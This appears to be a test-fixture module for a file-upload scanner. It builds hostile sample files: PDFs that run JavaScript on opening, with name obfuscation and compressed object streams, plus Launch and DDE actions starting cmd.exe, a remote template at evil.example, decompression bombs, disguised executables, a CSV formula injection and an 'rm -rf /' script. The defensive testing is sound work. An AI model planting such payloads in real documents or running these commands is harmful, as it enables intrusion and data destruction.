import { deflateSync } from 'node:zlib';
import { family, type HostileFile } from './hostile-file.ts';
import { pdfWith } from './pdf-writer.ts';
import { zipOfTexts } from './zip-writer.ts';

const JS = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A catalogue that is packed where only a reader that unpacks it sees it. */
function packedPdf(type = '/Type /ObjStm', isPredicted = false): Buffer {
  const objects = Buffer.from(`9 0 ${JS}`);
  // Each byte a row of its own, with its predictor in front.
  const rows = isPredicted ? Buffer.from([...objects].flatMap((byte) => [0, byte])) : objects;
  const packed = deflateSync(rows).toString('latin1');
  const stream = `<< ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
  return pdfWith('/OpenAction 9 0 R', stream);
}

/** Packed objects with this text in front, named by 1,000 names in one dictionary or by 1,000 objects. */
function repeatedPdf(text: string, place: 'names' | 'objects'): Buffer {
  const packed = deflateSync(Buffer.concat([Buffer.from(text), Buffer.alloc(12_000_000, ' ')])).toString(
    'latin1',
  );
  const names = place === 'names' ? '/Type /ObjStm '.repeat(1000) : '';
  const stream = `<< /Type /ObjStm ${names}/Length ${packed.length} >>\nstream\n${packed}\nendstream`;
  const objects = Array.from({ length: place === 'objects' ? 1000 : 0 }, () => '<< /Type /ObjStm >>');
  return pdfWith('', ...objects, stream);
}

/** Streams that unpack to 100 MB together. */
function manyStreams(): Buffer {
  const packed = deflateSync(Buffer.alloc(10_000_000, ' ')).toString('latin1');
  const stream = `<< /Type /ObjStm /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
  return pdfWith('', ...Array.from({ length: 10 }, () => stream));
}

export function slowDocuments(): HostileFile[] {
  return family('document that takes long', [
    ['named.pdf', 'a stream named 1,000 times', repeatedPdf('', 'names'), 'served'],
    ['named-script.pdf', 'the same with a script', repeatedPdf(`9 0 ${JS}`, 'names'), 'stopped by the check'],
    ['shared.pdf', 'a stream shared by 1,000 objects', repeatedPdf('', 'objects'), 'stopped by the check'],
    ['streams.pdf', 'streams of 100 MB together', manyStreams(), 'stopped by the check'],
    [
      'open.pdf',
      '100,000 streams without an end',
      pdfWith('', '/ObjStm stream\n'.repeat(100_000)),
      'stopped by the check',
    ],
    [
      'spelt.pdf',
      'packs a script away under a name in numbers',
      packedPdf('/Type /Obj#53tm'),
      'stopped by the check',
    ],
  ]);
}

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_WORD = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const typesOf = (type: string) =>
  `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;

/** The old container, with streams of these names. */
function oldOffice(...streams: string[]): Buffer {
  const names = streams.map((name) => Buffer.from(name.padEnd(32, '\0'), 'utf16le'));
  const magic = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return Buffer.concat([magic, Buffer.alloc(504), ...names, Buffer.alloc(512)]);
}

/** The old container, whole: its table, its directory and a workbook of eight sectors. */
function macroSheet(): Buffer {
  const file = Buffer.alloc(11 * 512);
  file.write('d0cf11e0a1b11ae1', 'hex');
  file.fill(0xff, 76, 1024);
  file.writeUInt16LE(9, 30);
  file.writeUInt32LE(1, 48);
  file.writeUInt32LE(4096, 56);
  file.writeInt32LE(-2, 60);
  file.writeInt32LE(-2, 68);
  file.writeUInt32LE(0, 76);
  for (const [at, next] of [-3, -2, 3, 4, 5, 6, 7, 8, 9, -2].entries()) file.writeInt32LE(next, 512 + at * 4);
  file.write('Workbook', 1024, 'utf16le');
  file.writeUInt16LE(18, 1024 + 64);
  file.writeUInt8(2, 1024 + 66);
  file.writeUInt32LE(2, 1024 + 116);
  file.writeUInt32LE(4096, 1024 + 120);
  file.write('85000900000000000001010041', 1536, 'hex');
  return file;
}

function packedScripts(): Parameters<typeof family>[1] {
  return [
    ['packed.pdf', 'packs the script away', packedPdf(), 'stopped by the check'],
    [
      'decoy.pdf',
      'packs it away behind a comment that looks like a stream',
      packedPdf(`/Type /ObjStm\n%stream ${deflateSync('harmless').toString('latin1')}endstream\n`),
      'stopped by the check',
    ],
    [
      'predictor.pdf',
      'packs it away with a predictor',
      packedPdf('/Type /ObjStm /DecodeParms << /Predictor 10 /Columns 1 >>', true),
      'stopped by the check',
    ],
    ['untyped.pdf', 'packs it away in a stream without a type', packedPdf(''), 'stopped by the check'],
  ];
}

const letterWith = (name: string, text: string) =>
  zipOfTexts({ '[Content_Types].xml': typesOf(WORD), 'word/document.xml': '<x/>', [name]: text });

function carriers(): Parameters<typeof family>[1] {
  const film = Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex');
  const hidden: [string, Buffer][] = [
    ['archive', zipOfTexts({ 'setup.exe': 'MZ' })],
    ['early-archive', Buffer.concat([zipOfTexts({ 'setup.exe': 'MZ' }), Buffer.alloc(70_000)])],
    ['rar', Buffer.from('526172211a0700', 'hex')],
    ['7z', Buffer.from('377abcaf271c0004', 'hex')],
  ];
  return [
    ['embedded.docx', 'carries a file', letterWith('word/embeddings/a.bin', 'MZ'), 'stopped by the check'],
    ['program.docx', 'carries a program', letterWith('setup.exe', 'MZ'), 'stopped by the check'],
    ['picture.docx', 'calls it a picture', letterWith('word/media/a.png', 'MZ'), 'stopped by the check'],
    ...hidden.map(([name, archive]): Parameters<typeof family>[1][number] => [
      `${name}.mp4`,
      'a film that is an archive too',
      Buffer.concat([film, archive]),
      'stopped by the check',
    ]),
  ];
}

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Documents that fetch something, or ask a program, when they are opened. */
function askers(): Parameters<typeof family>[1] {
  const template = `<Relationships><Relationship Id="a" Type="${RELATIONS}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`;
  const field = '<w:fldSimple w:instr="DDEAUTO cmd.exe &quot;/k calc.exe&quot;"/>';
  return [
    [
      'template.docx',
      'its template is elsewhere',
      letterWith('word/_rels/settings.xml.rels', template),
      'stopped by the check',
    ],
    ['dde.docx', 'a field starts a program', letterWith('word/header1.xml', field), 'stopped by the check'],
    ['sheet.xls', 'a sheet of Excel 4.0 macros', macroSheet(), 'stopped by the check'],
    [
      'rendition.pdf',
      'runs a script as a rendition',
      pdfWith('/OpenAction <</S/Rendition/JS(app.alert(1))>>'),
      'stopped by the check',
    ],
    ['goto.pdf', 'opens a file inside', pdfWith('/OpenAction <</S/GoToE/F(x)>>'), 'stopped by the check'],
    ['model.pdf', 'a model that moves', pdfWith('', '<</Subtype/3D/3DD 5 0 R>>'), 'stopped by the check'],
  ];
}

export function activeDocuments(): HostileFile[] {
  return family('active document', [
    ['script.pdf', 'runs a script when it opens', pdfWith(`/OpenAction ${JS}`), 'stopped by the check'],
    [
      'hidden.pdf',
      'spells the word in numbers',
      pdfWith(`/OpenAction ${JS.replace('/JavaScript', '/#4a#61vaScrip#74')}`),
      'stopped by the check',
    ],
    ...packedScripts(),
    [
      'launch.pdf',
      'starts a program',
      pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
      'stopped by the check',
    ],
    [
      'carrier.pdf',
      'carries a file',
      pdfWith(
        '/Names << /EmbeddedFiles << /Names [(evil.exe) 4 0 R] >> >>',
        '<< /Type /Filespec /EF << /F 5 0 R >> >>',
      ),
      'stopped by the check',
    ],
    [
      'form.pdf',
      'a form with a language of its own',
      pdfWith('/AcroForm << /XFA 4 0 R >>', '(x)'),
      'stopped by the check',
    ],
    ['locked.pdf', 'encrypted', pdfWith('/Encrypt << /Filter /Standard >>'), 'stopped by the check'],
    ['endless.pdf', 'has no end', pdfWith('').subarray(0, -8), 'stopped by the check'],
    [
      'lost.pdf',
      'its list is not where it says',
      Buffer.from(
        pdfWith('')
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n7'),
        'latin1',
      ),
      'stopped by the check',
    ],
    [
      'macro.docx',
      'a document with macros, renamed',
      zipOfTexts({
        '[Content_Types].xml': typesOf(MACRO_WORD),
        'word/document.xml': '<x/>',
        'word/vbaProject.bin': 'x',
      }),
      'stopped by the check',
    ],
    [
      'smuggled.docx',
      'macros that the list does not name',
      zipOfTexts({
        '[Content_Types].xml': typesOf(WORD),
        'word/document.xml': '<x/>',
        'word/vbaProject.bin': 'x',
      }),
      'stopped by the check',
    ],
    ...carriers(),
    ...askers(),
    [
      'macro.doc',
      'an old document with macros',
      oldOffice('WordDocument', 'Macros', '_VBA_PROJECT'),
      'stopped by the check',
    ],
  ]);
}

export function wrongContainers(): HostileFile[] {
  return family('wrong container', [
    ['plain.docx', 'only an archive', zipOfTexts({ 'a.txt': 'a' }), 'stopped by the check'],
    [
      'letter.xlsx',
      'a letter called table',
      zipOfTexts({ '[Content_Types].xml': typesOf(WORD), 'word/document.xml': '<x/>' }),
      'stopped by the check',
    ],
    ['letter.xls', 'an old letter called table', oldOffice('WordDocument'), 'stopped by the check'],
    [
      'program.doc',
      'a program called document',
      Buffer.from('MZ\u0090\0 This program cannot be run in DOS mode.'),
      'stopped by the check',
    ],
    ['script.mp4', 'a script called film', '#!/bin/sh\nrm -rf /\n', 'stopped by the check'],
    ['film.mkv', 'text called film', 'not a film', 'stopped by the check'],
    ['fake.rar', 'text called archive', 'Rar? No.', 'stopped by the check'],
    ['fake.7z', 'an archive of another kind', zipOfTexts({ 'a.txt': 'a' }), 'stopped by the check'],
    ['zeros.txt', 'bytes called text', Buffer.from('text\0with zeros'), 'stopped by the check'],
    ['wide.txt', 'text in UTF-16', Buffer.from('\uFEFFwide', 'utf16le'), 'stopped by the check'],
    ['formula.csv', 'a table that computes', '=cmd|"/C calc"!A0,1\n', 'served'],
  ]);
}
